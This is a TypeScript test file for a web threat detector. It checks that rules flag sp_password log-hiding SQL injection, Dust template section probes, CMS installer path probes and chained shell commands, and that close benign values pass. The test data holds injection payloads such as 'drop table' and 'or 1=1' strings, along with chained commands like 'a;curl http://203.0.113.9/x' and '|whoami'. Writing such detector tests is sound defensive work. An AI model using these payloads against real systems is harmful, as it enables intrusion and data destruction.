/**
 * Classes of the pattern table that public lists hold and the rules lacked: SQL Server's log-hiding
 * comment, Dust template sections, and a parameter that is an installer script's path; and what the
 * command pattern leaves to the shell family. Each class gets variants written here (no line of a
 * corpus) and the legitimate values that come closest.
 */
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { type DetectionInput, ThreatDetector } from "../../src/ThreatDetector.js"
import { expectVerdicts } from "./harness.js"

const ruleIdsOf = (input: DetectionInput) =>
  Effect.gen(function*() {
    const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
    const result = yield* detector.detect(input)
    return { threat: result.isThreat, ruleIds: result.ruleIds }
  })

describe("sqli.log_hiding: a comment naming sp_password", () => {
  it.effect("refuses the comment that keeps SQL Server from logging the statement, however it is sent", () =>
    expectVerdicts([], ["1--sp_password", "1; drop table t --sp_password", "x' or 1=1 -- sp_password", "admin'--SP_PASSWORD"]))

  it.effect("finds it in a form field and a cookie, percent-encoded", () =>
    Effect.gen(function*() {
      const form = yield* ruleIdsOf({ path: "/login", body: { kind: "form", text: "user=a%27--sp_password&pw=x" } })
      expect(form.ruleIds).toContain("sqli.log_hiding")
      const cookie = yield* ruleIdsOf({ path: "/", cookies: { session: "1--%20sp_password" } })
      expect(cookie.ruleIds).toContain("sqli.log_hiding")
    }))

  it.effect("passes a question about the procedure", () =>
    expectVerdicts(["how do I reset sa with sp_password", "sp_password is deprecated since SQL Server 2005", "--password flag"], []))
})

describe("template.dust_section: a Dust section outside a body", () => {
  it.effect("refuses inverted, normal and exists sections in a query", () =>
    expectVerdicts([], ["{^probe7}1764{/probe7}", "{#items}49{/items}", "{?x}ok{/x}", "a{^n}{/n}b"]))

  it.effect("finds it in a path, a header and a cookie", () =>
    Effect.gen(function*() {
      const path = yield* ruleIdsOf({ path: "/p/%7B%5Ez%7D1764%7B%2Fz%7D" })
      expect(path.ruleIds).toContain("template.dust_section")
      const header = yield* ruleIdsOf({ path: "/", headers: { "x-title": "{#x}7{/x}" } })
      expect(header.ruleIds).toContain("template.dust_section")
      const cookie = yield* ruleIdsOf({ path: "/", cookies: { theme: "{^t}1{/t}" } })
      expect(cookie.ruleIds).toContain("template.dust_section")
    }))

  it.effect("passes Mustache, Svelte blocks with arguments, JSON and a template posted in a body", () =>
    Effect.gen(function*() {
      yield* expectVerdicts(["{{#each items}}x{{/each}}", "{#if ready}go{/if}", '{"a":{"b":1}}', "{x} and {/y}", "a {#} b"], [])
      const body = yield* ruleIdsOf({ path: "/templates", body: { kind: "json", text: JSON.stringify({ source: "{#names}<li>{.}</li>{/names}" }) } })
      expect(body.ruleIds).not.toContain("template.dust_section")
    }))
})

describe("cms_probing.install_script_param: a parameter that is an installer's path", () => {
  it.effect("refuses installer and setup scripts after a climb or under an admin or CMS folder", () =>
    expectVerdicts([], ["/shop/admin/setup.php", "/wordpress/wp-admin/install.php", "/joomla/administrator/install/index.php", "../installer.php", "../../SETUP.PHP"]))

  it.effect("finds it in a form field and a cookie", () =>
    Effect.gen(function*() {
      const form = yield* ruleIdsOf({ path: "/load", body: { kind: "form", text: "page=%2Fsite%2Fadmin%2Fsetup.php" } })
      expect(form.ruleIds).toContain("cms_probing.install_script_param")
      const cookie = yield* ruleIdsOf({ path: "/", cookies: { tpl: "administrator/install.php" } })
      expect(cookie.ruleIds).toContain("cms_probing.install_script_param")
    }))

  it.effect("passes prose, an installer named alone or in a project's folder, return URLs of update pages, and other scripts", () =>
    expectVerdicts(["how to run install.php", "/install.php", "docs/setup.php", "install.php", "/shop/setup.php", "/admin/update.php", "/account/upgrade.php", "/install.php.html", "/reinstall.php?id=1", "install.phpstorm"], []))
})

describe("cmd_injection.chain_strong: a command after a separator", () => {
  it.effect("passes inline Markdown code naming a command, and a key named like one on a line of code", () =>
    expectVerdicts([
      "Run `whoami` to see your user",
      "Use `node app.js` to start the server",
      "Basically makes `node app.js 'foo bar'` work everywhere",
      "javascript\nform.submit({\n  host: 'example.com',\n  path: '/upload'\n})"
    ], []))

  it.effect("still refuses a substitution, a chained command and a command after a line break", () =>
    expectVerdicts([], ["`whoami`", "a`whoami`", "q;`id`", "x|whoami", "a;curl http://203.0.113.9/x", "x\nhost 203.0.113.9", "1 && node -e 1"]))

  it.effect("refuses a chained command in a header and a cookie", () =>
    Effect.gen(function*() {
      const header = yield* ruleIdsOf({ path: "/", headers: { "x-forwarded-user": "a;whoami" } })
      expect(header.threat).toBe(true)
      const cookie = yield* ruleIdsOf({ path: "/", cookies: { lang: "en|uname -a" } })
      expect(cookie.threat).toBe(true)
    }))
})
